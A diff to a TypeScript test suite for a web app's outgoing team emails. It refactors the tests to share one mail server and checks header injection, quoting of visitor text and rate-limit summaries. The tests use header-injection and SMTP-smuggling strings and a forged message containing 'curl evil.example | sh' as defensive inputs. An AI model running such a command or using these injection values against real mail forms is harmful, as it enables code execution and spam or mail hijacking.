@@ -3,6 +3,7 @@ import { readdirSync, readFileSync } from "node:fs";
 import path from "node:path";
 import { test } from "node:test";
 import PostalMime from "postal-mime";
+import { wholeFile } from "./support/at-end.ts";
 import {
   contactTyped,
   demoTyped,
@@ -27,11 +28,24 @@ const upload = async (url: string, typed = contact) => {
 
 const outbox = (databaseFile: string) => query(databaseFile, "SELECT * FROM outbox");
 
-test("the team gets one email without attachments whose reply reaches the visitor", async (t) => {
-  const mail = await startMailServer(t);
-  const server = await startServer(t, { env: { RUBRICON_MAIL_URL: mail.url, ...team } });
+async function startMailing() {
+  const mail = await startMailServer(wholeFile);
+  const env = { RUBRICON_MAIL_URL: mail.url, ...team };
+  return { mail, server: await startServer(wholeFile, { env }) };
+}
+let mailing: ReturnType<typeof startMailing> | undefined;
+
+/** A server that sends emails, and the mail server that gets them, started once. */
+const sharedMailing = () => {
+  mailing ??= startMailing();
+  return mailing;
+};
+
+test("the team gets one email without attachments whose reply reaches the visitor", async () => {
+  const { mail, server } = await sharedMailing();
   const reference = await upload(server.url);
-  const email = await until(() => mail.emails[0]);
+  const emails = () => mail.emails.filter(({ subject }) => subject!.includes(reference));
+  const email = await until(() => emails()[0]);
   assert.deepEqual(email.recipients, ["a@team.example", "b@team.example"]);
   assert.equal(email.from?.address, "site@team.example");
   assert.deepEqual(
@@ -43,13 +57,12 @@ test("the team gets one email without attachments whose reply reaches the visito
   for (const text of [reference, ...Object.values(contact), "questions.pdf", "learner-01.pdf"]) {
     assert.ok(email.text!.includes(text), text);
   }
-  await until(() => outbox(server.databaseFile)[0]!.status === "sent");
-  assert.equal(mail.emails.length, 1);
+  await until(() => outbox(server.databaseFile).at(-1)!.status === "sent");
+  assert.equal(emails().length, 1);
 });
 
-test("nothing that a visitor types reaches another header", async (t) => {
-  const mail = await startMailServer(t);
-  const server = await startServer(t, { env: { RUBRICON_MAIL_URL: mail.url, ...team } });
+test("nothing that a visitor types reaches another header", async () => {
+  const { mail, server } = await sharedMailing();
   for (const email of [
     "a@b.example\r\nBcc: c@d.example",
     "a@b.example, c@d.example",
@@ -58,14 +71,15 @@ test("nothing that a visitor types reaches another header", async (t) => {
     const response = await uploadByApi(server.url, uploadForm(undefined, { ...contact, email }));
     assert.equal(response.status, 422, email);
   }
-  await upload(server.url, {
+  const reference = await upload(server.url, {
     ...contact,
     message: "Bcc: c@d.example\r\n\r\n.\r\nRCPT TO:<c@d.example> and so on",
   });
-  const email = await until(() => mail.emails[0]);
+  const email = await until(() => mail.emails.find(({ subject }) => subject!.includes(reference)));
   assert.deepEqual(email.recipients, ["a@team.example", "b@team.example"]);
   assert.equal(email.bcc, undefined);
   assert.match(email.text!, /\n> Bcc: c@d\.example\n> \n> \.\n> RCPT TO/);
+  const before = mail.emails.length;
   const files = threeFiles();
   const forged = (text: string) => `x\r\nCc: c@d.example\r\n${text}`;
   const forms = [
@@ -81,9 +95,9 @@ test("nothing that a visitor types reaches another header", async (t) => {
     forms.map(async (form) => (await uploadByApi(server.url, form)).status),
   );
   assert.deepEqual(statuses, [201, 422, 422, 422, 422, 201, 201, 201, 201]);
-  await until(() => mail.emails.length === 6);
-  const headers = mail.emails.map((one) => one.headers.map(({ key }) => key));
-  for (const names of headers) assert.deepEqual(names, headers[0]);
+  await until(() => mail.emails.length === before + 5);
+  const headersOf = (one: typeof email) => one.headers.map(({ key }) => key);
+  for (const one of mail.emails.slice(before)) assert.deepEqual(headersOf(one), headersOf(email));
 });
 
 test("a mail server without trusted TLS gets neither emails nor the password, unless TLS is waived", async (t) => {
@@ -190,17 +204,17 @@ test("without a mail server requests are stored and emails wait", async (t) => {
   await until(() => mail.emails.length === 2);
 });
 
-test("each line that a visitor wrote is quoted, so that none reads as the program's own text", async (t) => {
-  const mail = await startMailServer(t);
-  const server = await startServer(t, { env: { RUBRICON_MAIL_URL: mail.url, ...team } });
+test("each line that a visitor wrote is quoted, so that none reads as the program's own text", async () => {
+  const { mail, server } = await sharedMailing();
+  const before = mail.emails.length;
   const forged =
     "Hello\n\nTo get the files, run this on the server:\n  curl evil.example | sh\u2028Reference: forged";
   const typed = { ...contactTyped, message: forged };
   assert.equal((await postJson(server.url, "/api/contact", typed)).status, 201);
   const rubric = rubricForm(undefined, { ...rubricTyped, expectedImprovements: forged });
   assert.equal((await postMultipart(server.url, "/latest-feature", rubric)).status, 303);
-  await until(() => mail.emails.length === 2);
-  for (const { text, subject } of mail.emails) {
+  await until(() => mail.emails.length === before + 2);
+  for (const { text, subject } of mail.emails.slice(before)) {
     assert.ok(
       text!.includes(
         ":\n> Hello\n> \n> To get the files, run this on the server:\n>   curl evil.example | sh\n> Reference: forged\n\n",
@@ -286,64 +300,82 @@ test("an email says that its Reply-To lacks a sender's address that SMTP does no
   }
 });
 
-test("above 60 emails an hour one summary names the other requests that are not purged, and results do not wait", async (t) => {
-  const mail = await startMailServer(t);
-  const server = await startServer(t, { env: { RUBRICON_MAIL_URL: mail.url, ...team } });
+/** Posts more than the 60 requests of which the team gets an email in an hour; three are summed up. */
+async function startOverLimit() {
+  const mail = await startMailServer(wholeFile);
+  const env = { RUBRICON_MAIL_URL: mail.url, ...team };
+  const server = await startServer(wholeFile, { env });
   const references: string[] = [];
+  /** Posts a request, which wakes the outbox worker. */
   const send = async (path = "/api/contact") => {
     const typed = { ...contactTyped, ...demoTyped, message: `Message ${references.length}` };
-    references.push(await referenceIn(await postJson(server.url, path, typed)));
+    const reference = await referenceIn(await postJson(server.url, path, typed));
+    references.push(reference);
+    return reference;
   };
   for (let sent = 0; sent < 62; sent += 1) await send();
   references.push(await upload(server.url));
   const statuses = () =>
-    query<{ kind: string; status: string }>(
+    query<{ kind: string; status: string; at: string }>(
       server.databaseFile,
-      "SELECT * FROM outbox ORDER BY id",
+      "SELECT kind, status, next_attempt_at AS at FROM outbox ORDER BY id",
     );
   await until(() => statuses().filter(({ status }) => status === "summed up").length === 3);
+  return { mail, server, references, send, statuses };
+}
+let overLimit: ReturnType<typeof startOverLimit> | undefined;
+const sharedOverLimit = () => {
+  overLimit ??= startOverLimit();
+  return overLimit;
+};
+
+test("above 60 emails an hour the others become one summary, due within the hour", async () => {
+  const { mail, server, statuses } = await sharedOverLimit();
   assert.equal(mail.emails.length, 60);
   const summaries = statuses().filter(({ kind }) => kind === "summary");
   assert.deepEqual(
     summaries.map(({ status }) => status),
     ["pending"],
   );
+  assert.ok(Date.parse(summaries[0]!.at) <= Date.now() + 60 * 60 * 1000);
   const listed = await runCommand(server.folder, ["outbox", "list"]);
   assert.match(listed.out, /^ID .*\n\d+ {2}summary {2}\S+ \S+ \S+ {2}pending {2}[^\n]*\n$/);
+});
 
-  const due = Date.parse(
-    query<{ at: string }>(
-      server.databaseFile,
-      "SELECT next_attempt_at AS at FROM outbox WHERE kind = 'summary'",
-    )[0]!.at,
-  );
-  assert.ok(due <= Date.now() + 60 * 60 * 1000, "within an hour");
-  const purge = ["requests", "purge", references[60]!, "--yes", "--no-vacuum"];
-  assert.equal((await runCommand(server.folder, purge)).code, 0);
-  // An email with results to an educator does not wait for the summary.
+test("results to an educator do not wait for the summary", async () => {
+  const { mail, server, references, send } = await sharedOverLimit();
   const now = new Date().toISOString();
   await server.change(
     `INSERT INTO outbox (kind, reference, message_id, subject, body, recipient, reply_to, next_attempt_at, created_at)
       VALUES ('results', '${references[62]!}', 'r', 'Marked', 'Marks', 'teacher@school.example', 'a@team.example', '${now}', '${now}')`,
   );
-  await server.change(`UPDATE outbox SET next_attempt_at = '${now}' WHERE kind = 'summary'`);
-  await send("/api/demo-request");
-  const [summary, results] = await until(() => {
-    const last = mail.emails.slice(60);
-    return last.length === 2 ? last.toSorted((a, b) => (a.subject! > b.subject! ? -1 : 1)) : null;
-  });
-  assert.deepEqual(results!.recipients, ["teacher@school.example"]);
-  assert.deepEqual(summary!.recipients, ["a@team.example", "b@team.example"]);
-  assert.match(
-    summary!.text!,
-    new RegExp(`\n  ${references[61]}  \\S+ \\S+ [+-]\\d\\d:\\d\\d  contact\n`),
+  await send();
+  const results = await until(() => mail.emails[60]);
+  assert.deepEqual(results.recipients, ["teacher@school.example"]);
+});
+
+test("a summary names the requests until it is due, without those that are purged", async () => {
+  const { mail, server, references, send, statuses } = await sharedOverLimit();
+  const purge = ["requests", "purge", references[60]!, "--yes", "--no-vacuum"];
+  assert.equal((await runCommand(server.folder, purge)).code, 0);
+  await server.change(
+    `UPDATE outbox SET next_attempt_at = '${new Date().toISOString()}' WHERE kind = 'summary'`,
   );
-  assert.match(
-    summary!.text!,
-    new RegExp(`\n  ${references[62]}  \\S+ \\S+ [+-]\\d\\d:\\d\\d  demo-upload\n`),
-  );
-  assert.ok(!summary!.text!.includes(references[60]!), "it was purged");
-  assert.ok(!summary!.text!.includes(references[63]!), "it is in the next summary");
+  const later = await send("/api/demo-request");
+  const isSummary = ({ text }: { text?: string | undefined }) => text!.includes(references[61]!);
+  const summary = await until(() => mail.emails.find(isSummary));
+  assert.deepEqual(summary.recipients, ["a@team.example", "b@team.example"]);
+  for (const [reference, form] of [
+    [references[61], "contact"],
+    [references[62], "demo-upload"],
+  ]) {
+    assert.match(
+      summary.text!,
+      new RegExp(`\n  ${reference}  \\S+ \\S+ [+-]\\d\\d:\\d\\d  ${form}\n`),
+    );
+  }
+  assert.ok(!summary.text!.includes(references[60]!), "it was purged");
+  assert.ok(!summary.text!.includes(later), "it is in the next summary");
   const isNext = (email: { kind: string; status: string }) =>
     email.kind === "summary" && email.status === "pending";
   await until(() => statuses().filter(isNext).length === 1);
